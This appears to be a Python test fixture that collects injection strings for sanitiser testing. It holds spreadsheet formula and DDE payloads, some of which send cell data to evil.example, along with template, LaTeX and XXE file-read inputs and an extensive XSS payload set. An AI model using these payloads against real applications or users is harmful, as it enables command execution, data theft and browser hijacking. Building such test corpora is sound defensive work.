"""Words that mean something to a program: to spreadsheets, to browsers, to templates, typesetters and XML."""

from __future__ import annotations

_CALLS = (
    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example/?"&A1,"Open")', '=IMPORTXML("http://evil.example/","//a")',
    '=WEBSERVICE("http://evil.example/"&A2)', '=IMAGE("http://evil.example/x.png")', "=cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", "=DDE(\"cmd\";\"/C calc\";\"x\")", "={1,2}",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=INDIRECT("A"&1)', "=A1", "=$A$1", "='file:///etc/passwd'#$x.A1",
    '=COM.MICROSOFT.WEBSERVICE("http://evil.example/")', "=_xlfn.CONCAT(A1:Z9)", "=10/0", "=NA()", "==1", "= 1+1",
)  # fmt: skip
_SIGNS = (
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "- 1+1", "@SUM(A1:A9)", "@A1", "+@SUM(1;2)", "-@A1",
    "--1", "++1", "+-1", "-+1", "=+1", "=-1", "=@A1", "+=1+1",
)  # fmt: skip
_DISGUISED = (
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", "'=1+1", "''=1+1", '"=1+1"',
    "\u200b=1+1",
    "\ufeff=1+1", "\u00a0=1+1", "x\t=1+1\ty", "x;=1+1;y", "x; =1+1; y", "x\n=1+1\ny", "x\n+1+1;-1;@A1", 'x";=1+1;"y',
    "x;\"=1+1\";y", "x;\"=1+1;y", "x,=1+1,y", "|=1+1", "x|=1+1|y", "text\n- first\n- second", "10.12.2028",
    "1E5", "0012345", "TRUE",
)  # fmt: skip
FORMULAS = (*_CALLS, *_SIGNS, *_DISGUISED)

TYPESET = (
    "{{ settings.SECRET_KEY }}", "{{ 7*7 }}", "{% debug %}", "{% include '/etc/passwd' %}", "{# gone #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "%(number)s %s %d {0} {name}", '#read("/etc/passwd")', '#import "@preview/x:1.0.0": *',
    '#include "/etc/passwd"', "#eval(\"1+1\")", "#set page(width: 1pt)", "#panic()", "#let x = 1",
    "#link(\"http://e/\")[x]",
    "$ sum_(i=1)^n $", "$x^2$", "*bold* _leaning_ `code`", "```typ\n#panic()\n```", "@reference <label>", "= Heading",
    "\\input{/etc/passwd}", "\\write18{id}", "\\u{1F600}", "// gone", "/* gone */", "~ -- --- ...", "[a](http://e/)",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>", "</w:t></w:r></w:p>", '<w:fldSimple w:instr="DATE"/>', "{ DATE }",
    '{ INCLUDETEXT "/etc/passwd" }', '{ HYPERLINK "http://evil.example/" }', "_x0041_", "_x000D_", "x_x005F_y",
    "]]>", "<![CDATA[x]]>", "<!-- x -->", "--> <!--", "<?xml version='1.0'?>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    "&y; &amp; &lt; &#65; &#x41; &nbsp;", "&", "<", ">", "\"'`", "a\\b\\", "\\n \\t \\0", "(paren (nested) \\) ends",
    "<</S/URI/URI(http://evil.example/)>>", "endobj 1 0 obj", "%PDF-1.7 %%EOF", "BT /F1 12 Tf (x) Tj ET",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b>", "<a href='javascript:x'>x</a>",
    "<style>*{display:none}</style>", "<br>", "\u202eright to left\u202c", "\u2066isolated\u2069",
    "\u200eleft mark\u200f",
    "אבג هذا x", "e\u0301 combined", "a\u00adsoft", "a\u2028line\u2029break", "zero\u200bwidth", "\ufeffmark",
    "nbsp\u00a0x",
    "first\nsecond", "tab\tbed", "- a\n- b", "1. a\n2. b", "https://evil.example/?a=1&b=2", "file:///etc/passwd",
    "\\\\evil.example\\share", "mailto:x@example.org", "😀 👩‍👩‍👧 🇰🇿", "中文 日本", "№ § € ₸ ″",
    "a" * 400, "ж" * 300, "...", "~", "·",
)  # fmt: skip
CONTROL = (
    "bell\x07",
    "null\x00",
    "escape\x1b[31m",
    "half\ud800",
    "feed\x0c",
    "c1\x85x\x9f",
    "no\ufffe\uffff",
    "del\x7f",
)

TOLD = "window.__run=(window.__run||0)+1;alert(1)"
_ELEMENTS = (
    f"<script>{TOLD}</script>", f"<ScRiPt>{TOLD}</sCrIpT>", f"<script src=data:text/javascript,{TOLD}></script>",
    f"<script/x>{TOLD}</script>", f"<scr<script>ipt>{TOLD}</scr</script>ipt>", f"<script type=module>{TOLD}</script>",
    f"<script\n>{TOLD}</script\n>", f"<svg><script>{TOLD}</script></svg>", f"<math><script>{TOLD}</script></math>",
    f"<svg><script href=data:text/javascript,{TOLD} /></svg>", "<script src=//evil.example/x.js></script>",
    f"<template><script>{TOLD}</script></template>", f"<noscript><p title='</noscript><script>{TOLD}</script>'>",
    f"<iframe src=javascript:{TOLD}></iframe>", f"<iframe srcdoc='<script>parent.{TOLD}</script>'></iframe>",
    f"<object data=javascript:{TOLD}></object>", f"<embed src=javascript:{TOLD}>", f"<base href=javascript:{TOLD}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{TOLD}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x'</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<form action=//evil.example><button>x</button></form>",
    f"<a href=javascript:{TOLD}>x</a>", f"<a href='java\tscript:{TOLD}'>x</a>",
    f"<a href=data:text/html,<script>{TOLD}</script>>x</a>",
    f"<xml:namespace prefix=t><t:set attributename=innerHTML to='<img src=x onerror={TOLD}>'>",
    f"<frameset onload={TOLD}>",
)  # fmt: skip
_ON = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onbegin",
       "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange")  # fmt: skip
_CARRIERS = ("<img src=x {}>", "<svg {}>", "<body {}>", "<input autofocus {}>", "<details open {}>x</details>",
             "<video><source {}></video>")  # fmt: skip
_HANDLERS = tuple(carrier.format(f"{on}={TOLD}") for on in _ON[:9] for carrier in _CARRIERS)
_BREAKS = (
    f"\"><script>{TOLD}</script>", f"'><script>{TOLD}</script>", f"</textarea><script>{TOLD}</script>",
    f"</title><script>{TOLD}</script>", f"</style><script>{TOLD}</script>", f"</script><script>{TOLD}</script>",
    f"</option></select><script>{TOLD}</script>", f"--><script>{TOLD}</script>", f"]]><script>{TOLD}</script>",
    f"\" autofocus onfocus={TOLD} x=\"", f"' autofocus onfocus={TOLD} x='", f"` onfocus={TOLD} `",
    f" onfocus={TOLD} autofocus ",
    f"\";{TOLD};//", f"';{TOLD};//", f"`;{TOLD};//", f"${{{TOLD}}}", f"\\\";{TOLD};//",
    f"</template><img src=x onerror={TOLD}>",
    f"javascript:{TOLD}", f"JaVaScRiPt:{TOLD}", f" javascript:{TOLD}", f"data:text/html,<script>{TOLD}</script>",
    f"&lt;script&gt;{TOLD}&lt;/script&gt;", f"&#60;script&#62;{TOLD}&#60;/script&#62;",
    f"%3Cscript%3E{TOLD}%3C/script%3E",
    f"\\u003cscript\\u003e{TOLD}\\u003c/script\\u003e", f"＜script＞{TOLD}＜/script＞",
    f"<\u200bscript>{TOLD}</script>",
    "{{constructor.constructor('alert(1)')()}}", "{{ 7*7 }}{% debug %}", "[[${7*7}]]", "<!--#exec cmd=\"id\"-->",
    f"<mark>{TOLD}</mark>", f"<ins><script>{TOLD}</script></ins>", "&amp;lt;b&amp;gt;",
)  # fmt: skip
MARKUP = (*_ELEMENTS, *_HANDLERS, *_BREAKS)
